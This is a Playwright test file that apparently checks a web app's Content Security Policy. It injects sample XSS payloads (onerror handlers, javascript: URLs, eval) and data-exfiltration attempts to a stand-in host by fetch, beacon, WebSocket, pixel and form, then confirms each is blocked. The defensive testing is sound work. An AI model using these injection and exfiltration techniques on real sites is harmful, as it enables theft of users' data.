import { fileURLToPath, pathToFileURL } from 'node:url';
import { expect, test, type Page } from '@playwright/test';
import { Keeper } from './pages/keeping.ts';

const PORTABLE = pathToFileURL(fileURLToPath(new URL('../dist/carecert-assure.html', import.meta.url))).href;

/** What a script that got in might try: as text of a function, what it breaks, and what it would have left behind. */
const ATTACKS: readonly (readonly [what: string, run: () => unknown, directive: RegExp])[] = [
  [
    'a script put in as text',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.wasRun = true';
      document.body.append(script);
    },
    /require-trusted-types-for/,
  ],
  [
    'markup with a handler',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.wasRun = true">');
    },
    /require-trusted-types-for/,
  ],
  [
    'an address that is a script',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:void(window.wasRun = true)';
      document.body.append(link);
      link.click();
    },
    /script-src|require-trusted-types-for/,
  ],
  ['text turned into code', () => Object(window).eval('window.wasRun = true'), /script-src|require-trusted-types-for/],
  [
    'a script from elsewhere',
    () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://elsewhere.example/x.js');
      document.body.append(script);
    },
    /script-src|require-trusted-types-for/,
  ],
  ['a connection out', () => fetch('https://elsewhere.example/?answers'), /connect-src/],
  ['a beacon', () => navigator.sendBeacon('https://elsewhere.example/', 'answers'), /connect-src/],
  ['a web socket', () => new WebSocket('wss://elsewhere.example/'), /connect-src/],
  [
    'a picture from elsewhere',
    () => {
      const image = document.createElement('img');
      image.src = 'https://elsewhere.example/pixel.png?answers';
      document.body.append(image);
    },
    /img-src/,
  ],
  [
    'a style sheet from elsewhere',
    () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://elsewhere.example/x.css';
      document.head.append(link);
    },
    /style-src/,
  ],
  [
    'a frame',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
    },
    /frame-src/,
  ],
  [
    'a form that sends',
    () => {
      const form = document.createElement('form');
      form.action = 'https://elsewhere.example/';
      document.body.append(form);
      form.submit();
    },
    /form-action/,
  ],
  [
    'another base for addresses',
    () => {
      const base = document.createElement('base');
      base.href = 'https://elsewhere.example/';
      document.head.append(base);
    },
    /base-uri/,
  ],
  ['a policy of its own for markup', () => globalThis.trustedTypes?.createPolicy('mine', {}), /trusted-types/],
];

/**
 * Runs it away from the debugger, whose own calls may break the policy, and gives the directives that were reported.
 */
const reported = (page: Page, run: () => unknown): Promise<string[]> =>
  page.evaluate(
    async ({ body }) => {
      const directives: string[] = [];
      const note = ({ effectiveDirective }: SecurityPolicyViolationEvent) => directives.push(effectiveDirective);
      document.addEventListener('securitypolicyviolation', note);
      const attack = Object(window).attacks[body] as () => unknown;
      setTimeout(() => {
        try {
          void Promise.resolve(attack()).catch(() => {});
        } catch {
          // Stopped, which is what is asked for.
        }
      });
      for (let waits = 0; waits < 300 && directives.length === 0; waits += 1)
        await new Promise((resolve) => setTimeout(resolve, 100));
      document.removeEventListener('securitypolicyviolation', note);
      return directives;
    },
    { body: run.toString() },
  );

for (const [edition, address] of [
  ['web', './'],
  ['portable', PORTABLE],
] as const) {
  test(`the ${edition} edition reports and stops whatever its policy forbids`, async ({ page, context }) => {
    const asked: string[] = [];
    // A request that the policy stops is told of too, as one that failed for that reason.
    context.on('requestfailed', (request) => {
      if (request.url().includes('elsewhere.example') && request.failure()?.errorText !== 'csp')
        asked.push(request.url());
    });
    // Made before the page has a policy: a script of the page could only come from the app.
    await page.addInitScript(
      `window.attacks = {${ATTACKS.map(([, run]) => `${JSON.stringify(run.toString())}: ${run.toString()}`).join(',\n')}}`,
    );
    await page.goto(address);
    if (edition === 'portable') await new Keeper(page).chooseFirst('Kept without a lock');
    await expect(page.getByRole('heading', { level: 1, name: 'Your assessments' })).toBeVisible();
    const home = page.url();
    for (const [what, run, directive] of ATTACKS) {
      expect((await reported(page, run)).join(' '), what).toMatch(directive);
      expect(await page.evaluate(() => 'wasRun' in window), what).toBe(false);
    }
    expect(asked).toEqual([]);
    expect(page.url()).toBe(home);
  });
}
